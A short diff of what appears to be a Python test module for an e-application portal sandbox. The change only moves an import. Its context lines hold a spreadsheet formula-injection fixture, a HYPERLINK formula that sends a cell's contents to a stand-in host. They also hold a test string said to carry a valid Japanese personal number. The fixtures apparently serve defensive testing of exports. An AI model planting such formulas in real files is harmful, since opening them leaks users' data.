@@ -14,9 +14,9 @@ from core.fake_people import FakePeople
 from core.ledger import Ledger, Status
 from flows._e_application import SCENARIO, enqueue_export
 from flows._human_list import write_human_list
-from robots.portal import read_export
 from sandbox.portal._csv import export_csv
 from sandbox.portal._store import StoredApplication
+from systems.e_application_portal import read_export
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&C2,"詳細")'
 WITH_MY_NUMBER = "R2026-123456789018"  # shape of a key, but it carries a valid 個人番号
